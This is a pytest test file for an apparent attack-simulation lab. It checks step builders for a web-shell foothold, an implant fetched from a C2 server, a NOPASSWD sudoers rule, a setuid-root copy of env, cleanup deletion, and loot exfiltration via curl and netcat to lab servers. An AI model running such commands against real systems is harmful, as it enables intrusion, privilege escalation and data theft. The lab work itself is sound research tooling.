import dataclasses
import functools
import os
import shutil
import stat
import subprocess
import threading
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

import pytest

from provarmor.lab import techniques as t
from provarmor.lab.context import LabContext
from provarmor.lab.scenario import Channel, Payload
from provarmor.lab.scenarios.implants import implant_payload
from provarmor.lab.scenarios.steps import (
    WEB_EXPLOIT,
    compile_downloaded,
    delete,
    deletion_step,
    download,
    exploit_step,
    implant_step,
    netcat_to_sink,
    post_to_c2,
    setuid_copy,
    start_implant,
    sudo_rule,
    web_exploit,
)


def test_shared_steps_name_the_foothold_and_add_a_scenarios_own_techniques():
    exploit = exploit_step(t.OWNER_USER)
    assert exploit.name == "exploit" and exploit.summary == WEB_EXPLOIT
    assert exploit.techniques == (t.EXPLOIT_PUBLIC_APP, t.UNIX_SHELL, t.OWNER_USER)
    implant = implant_step(summary="piped into Python")
    assert (implant.name, implant.summary) == ("implant", "piped into Python")
    assert implant.techniques == (t.PYTHON, t.WEB_PROTOCOLS)
    assert deletion_step("cleanup", "gone").techniques == (t.FILE_DELETION,)


def test_foothold_actions_go_through_the_web_shell_and_fetch_the_published_implant():
    ctx = LabContext.from_seed(7)
    implant = implant_payload(ctx)
    assert web_exploit("id").channel == start_implant(ctx, implant).channel == Channel.WEBSHELL
    start = start_implant(ctx, implant)
    assert start.step == "implant" and ctx.payload_url(implant.path) in start.command


@pytest.fixture
def loopback_c2(tmp_path):
    """A context whose C2 server is a real HTTP server on loopback serving ``tmp_path/www``."""
    www = tmp_path / "www"
    www.mkdir()
    handler = functools.partial(SimpleHTTPRequestHandler, directory=str(www))
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    ctx = LabContext.from_seed(5)
    c2 = dataclasses.replace(ctx.c2, address="127.0.0.1", http_port=server.server_address[1])
    yield dataclasses.replace(ctx, c2=c2), www
    server.shutdown()
    server.server_close()
    thread.join()


def test_download_fetches_the_payload_into_a_new_folder(loopback_c2, tmp_path):
    ctx, www = loopback_c2
    (www / "static").mkdir()
    (www / "static" / "a.js").write_text("print('implant')\n")
    target = tmp_path / ".cache-x" / "agent"
    command = download(ctx, Payload(path="static/a.js", content=""), str(target))
    subprocess.run(["sh", "-c", command], check=True, timeout=30)
    assert target.read_text() == "print('implant')\n"


def test_compile_downloaded_builds_the_source_and_leaves_no_scratch_folder(loopback_c2, tmp_path):
    if shutil.which("gcc") is None:
        pytest.skip("gcc is missing (the lab needs it, see docs/lab.md)")
    ctx, www = loopback_c2
    (www / "m.c").write_text('#include <stdio.h>\nint main(void) { puts("built"); return 0; }\n')
    output = tmp_path / "tool"
    command = compile_downloaded(
        ctx, Payload(path="m.c", content=""), str(output), flags="-O1", scratch="m.c"
    )
    scratch_parent = tmp_path / "scratch"
    scratch_parent.mkdir()
    env = {**os.environ, "TMPDIR": str(scratch_parent)}
    subprocess.run(["sh", "-c", command], check=True, timeout=60, env=env)
    assert subprocess.run([output], capture_output=True, text=True).stdout == "built\n"
    assert list(scratch_parent.iterdir()) == []


def test_delete_removes_every_path_it_names(tmp_path):
    folder, archive = tmp_path / ".stage", tmp_path / "stage.tgz"
    (folder / "sub").mkdir(parents=True)
    archive.write_bytes(b"x")
    action = delete("cleanup", Channel.IMPLANT, str(folder), str(archive))
    subprocess.run(["sh", "-c", action.command], check=True)
    assert (action.step, list(tmp_path.iterdir())) == ("cleanup", [])


def test_sudo_rule_is_a_valid_sudoers_entry_for_the_web_user(tmp_path):
    visudo = shutil.which("visudo") or "/usr/sbin/visudo"
    if not os.path.exists(visudo):
        pytest.skip("visudo is missing (the lab needs sudo, see docs/lab.md)")
    ctx = LabContext.from_seed(2)
    rule = sudo_rule(ctx, files=("backup", "archive"), program="/usr/bin/tar")
    assert rule.path in ("/etc/sudoers.d/backup", "/etc/sudoers.d/archive")
    assert rule.mode == 0o440 and rule.content.startswith(f"{ctx.web.user} ALL=(root) NOPASSWD:")
    candidate = tmp_path / "rule"
    candidate.write_text(rule.content)
    checked = subprocess.run([visudo, "-c", "-f", str(candidate)], capture_output=True, text=True)
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_setuid_copy_leaves_a_setuid_copy_of_the_program(tmp_path):
    if os.geteuid() != 0:
        pytest.skip("a setuid-root copy needs root")
    target = tmp_path / "envx"
    for command in setuid_copy("/usr/bin/env", str(target)):
        subprocess.run(command, check=True)
    mode = target.stat()
    assert mode.st_mode & stat.S_ISUID and mode.st_uid == 0
    assert subprocess.run([target, "true"], check=False).returncode == 0


def test_loot_is_sent_to_lab_servers_only():
    ctx = LabContext.from_seed(3)
    post, stream = post_to_c2(ctx, "@-"), netcat_to_sink(ctx)
    assert post.startswith("curl -s --data-binary @- ") and ctx.c2.url in post
    assert stream == f"nc -N -w 5 {ctx.address('sink')} {ctx.sink_tcp_port}"
    ctx.network.containment().assert_contained([post, stream])
